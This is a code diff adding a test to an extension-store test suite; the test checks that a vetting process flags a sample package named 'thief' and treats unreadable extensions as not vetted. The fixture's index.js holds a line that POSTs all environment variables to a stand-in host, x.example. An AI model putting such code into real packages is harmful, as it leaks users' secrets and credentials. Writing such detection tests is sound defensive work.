@@ -123,6 +123,30 @@ describe("the store of extensions", () => {
     expect((await aios.client.request("extension-show", { id })).damaged).toBeNull();
   });
 
+  it("has it looked through by a process that holds nothing, and takes no answer for a grave finding", async () => {
+    const rules = async (id: string): Promise<readonly string[]> =>
+      (await aios.client.request("extension-vet", { id })).findings.map(({ rule, path }) => `${rule} ${path}`);
+    const thief = [
+      { name: "package/package.json", body: '{"name":"thief","version":"1.0.0"}' },
+      {
+        name: "package/index.js",
+        body: 'fetch("https://x.example", { method: "POST", body: JSON.stringify(process.env) });\n',
+      },
+    ];
+    const { extension } = await add(makeTgz(thief), "tgz");
+    expect(await rules(extension.id)).toContain("sends-environment index.js");
+    const honest = [
+      { name: "package/package.json", body: '{"name":"honest","version":"1.0.0"}' },
+      { name: "package/index.js", body: "export const add = (a, b) => a + b;\n" },
+    ];
+    const twin = (await add(makeTgz(honest), "tgz")).extension.id;
+    expect(await rules(twin)).toEqual([]);
+    // What cannot be read was not found harmless.
+    rmSync(join(aios.home, "extensions", twin.slice("sha256:".length), "tree"), { recursive: true });
+    expect(await rules(twin)).toEqual(["not-vetted ."]);
+    for (const id of [extension.id, twin]) await aios.client.request("extension-remove", { id });
+  });
+
   it("keeps what is in quarantine out, over a restart too, until it is removed", async () => {
     const [id = ""] = await list();
     await aios.client.request("extension-quarantine", { id, why: "its author's account was taken over" });
